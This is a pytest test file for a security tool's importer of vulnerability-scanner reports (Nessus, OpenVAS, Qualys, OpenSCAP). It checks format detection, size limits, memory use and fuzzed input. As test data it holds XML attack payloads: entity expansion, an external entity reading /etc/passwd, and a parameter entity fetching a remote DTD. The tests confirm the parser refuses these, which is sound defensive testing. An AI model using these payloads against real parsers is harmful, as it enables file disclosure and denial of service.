"""Formats are told from the content; what is hostile is refused; memory stays small."""

from __future__ import annotations

import gzip
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bench.reports import SHAPES, write
from suture.core.scanners.scanner import MAX_CVES, MAX_PACKAGES, MAX_TEXT, ScannerRecord
from suture.imports import nessus, openscap, openvas, qualys, qualys_knowledge
from suture.imports.scanners import Format, Read, ReadChecks, recognise
from suture.reading import UnreadableError
from tests.fuzz.scanners import read_or_refused
from tests.unit.imports.samples import RECORDED, written
from tests.unit.imports.test_openscap import ARF, RESULT
from tests.unit.imports.test_qualys import DETECTIONS, SCAN

READERS: dict[str, Read | ReadChecks] = {
    "nessus.nessus": nessus.of_xml,
    "tenable-io.csv": nessus.of_csv,
    "tenable-sc.csv": nessus.of_csv,
    "openvas.xml": openvas.of_xml,
    "openvas.csv": openvas.of_csv,
    "qualys-assets.xml": qualys.of_assets,
    "qualys.csv": qualys.of_csv,
    "qualys-vmdr.csv": qualys.of_csv,
    "qualys-knowledgebase.xml": qualys_knowledge.of_xml,
    "xccdf.xml": openscap.of_xml,
}
WRITTEN: dict[str, tuple[str, Read]] = {
    "qualys-scan.xml": (SCAN, qualys.of_scan),
    "qualys-detections.xml": (DETECTIONS, qualys.of_detections),
    "arf.xml": (ARF.format(RESULT.format("fail")), openscap.of_xml),
}
EVERY = {name: ((RECORDED / name).read_bytes(), read) for name, read in READERS.items()} | {
    name: (text.encode(), read) for name, (text, read) in WRITTEN.items()
}


@pytest.mark.parametrize("name", EVERY)
def test_a_format_is_told_from_the_content(tmp_path: Path, name: str) -> None:
    content, read = EVERY[name]
    assert recognise(written(tmp_path, content, "report.txt")).read is read
    assert recognise(written(tmp_path, gzip.compress(content), "packed")).read is read


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "neither XML nor a CSV that is known"),
        (b"\x89PNG\r\n\x1a\n" + bytes(1000), "neither XML nor a CSV that is known"),
        (b"a,b\n1,2\n", "neither XML nor a CSV that is known"),
        (b"<html/>", "no scanner's report: <html>"),
        (b"<nmaprun>", "no scanner's report: <nmaprun>"),
        (b"<", "not well-formed"),
        (b"\xff\xfe<\0", "not well-formed"),
    ],
)
def test_what_is_no_report_is_told(tmp_path: Path, content: bytes, why: str) -> None:
    with pytest.raises(UnreadableError, match=why):
        recognise(written(tmp_path, content))


ENTITIES = "<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>"
EXTERNAL = "<!ENTITY b SYSTEM 'file:///etc/passwd'>"
PARAMETER = "<!ENTITY % b SYSTEM 'http://192.0.2.1/x.dtd'> %b;"


@pytest.mark.parametrize("entities", [ENTITIES, EXTERNAL, PARAMETER])
@pytest.mark.parametrize("name", [name for name in EVERY if not name.endswith(".csv")])
def test_entities_are_refused_in_every_format(tmp_path: Path, name: str, entities: str) -> None:
    content, read = EVERY[name]
    text = content.decode()
    root = text.index("<", text.index("?>") if "?>" in text else 0)
    if "<!DOCTYPE" in text:
        hostile = text.replace('.dtd">', f'.dtd" [{entities}]>', 1)
    else:
        hostile = f"{text[:root]}<!DOCTYPE x [{entities}]>{text[root:]}"
    assert hostile != text
    with pytest.raises(UnreadableError, match="not safe"):
        list(read(written(tmp_path, hostile)))


@pytest.mark.parametrize("name", [name for name in EVERY if not name.endswith(".csv")])
def test_a_truncated_report_is_refused(tmp_path: Path, name: str) -> None:
    content, read = EVERY[name]
    with pytest.raises(UnreadableError, match="not well-formed"):
        list(read(written(tmp_path, content[: len(content) * 3 // 4])))


def test_deep_nesting_is_refused(tmp_path: Path) -> None:
    deep = "<ReportItem>" * 10_000
    with pytest.raises(UnreadableError, match="nested more than"):
        list(nessus.of_xml(written(tmp_path, f"<NessusClientData_v2>{deep}")))


def test_huge_fields_are_cut_short(tmp_path: Path) -> None:
    cves = "".join(f"<cve>CVE-2026-{number}</cve>" for number in range(10_000, 20_000))
    packages = "\n".join(f"Installed package : p{number}_1" for number in range(10_000))
    report = (
        "<NessusClientData_v2><ReportHost><ReportItem severity='3' "
        f"pluginID='{'1' * 100_000}' pluginName='{'x' * 1_000_000}'>{cves}"
        f"<solution>{'y ' * 1_000_000}</solution><plugin_output>{packages}</plugin_output>"
        "</ReportItem></ReportHost></NessusClientData_v2>"
    )
    (one,) = nessus.of_xml(written(tmp_path, report))
    assert max(len(one.title), len(one.solution)) == MAX_TEXT
    assert (len(one.plugin), len(one.cves), len(one.packages)) == (128, MAX_CVES, MAX_PACKAGES)


@pytest.mark.parametrize("shape", SHAPES)
def test_a_large_report_is_read_in_little_memory(tmp_path: Path, shape: str) -> None:
    path = tmp_path / "report"
    size = 12_000_000
    hosts = write(path, SHAPES[shape], size)
    format_ = recognise(path)
    assert isinstance(format_, Format)
    tracemalloc.start()
    seen = {one.host for one in format_.read(path) if isinstance(one, ScannerRecord)}
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert len(seen) == hosts
    assert peak < size / 3


@st.composite
def damaged(draw: st.DrawFn, content: bytes) -> bytes:
    """A good report of which pieces were cut out, doubled or written over."""
    for _ in range(draw(st.integers(1, 3))):
        start = draw(st.integers(0, max(0, len(content) - 1)))
        length = draw(st.integers(0, 200))
        instead = draw(
            st.one_of(
                st.binary(max_size=20),
                st.sampled_from([b"<", b">", b'"', b",", b"\n", b"\0", b"</", b"&#0;", b"\xff"]),
                st.just(content[start : start + length] * 2),
            )
        )
        content = content[:start] + instead + content[start + length :]
    return content


@pytest.mark.parametrize("name", EVERY)
@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.data_too_large],
)
@given(data=st.data())
def test_a_damaged_report_isread_or_refused(tmp_path: Path, name: str, data: st.DataObject) -> None:
    content, read = EVERY[name]
    read_or_refused(read, written(tmp_path, data.draw(damaged(content))))


@pytest.mark.parametrize(
    "path", sorted((RECORDED / "fuzzed").iterdir()), ids=lambda path: path.name
)
def test_what_a_fuzzer_found_isread_or_refused(path: Path) -> None:
    for read in set(READERS.values()) | {read for _, read in WRITTEN.values()}:
        read_or_refused(read, path)
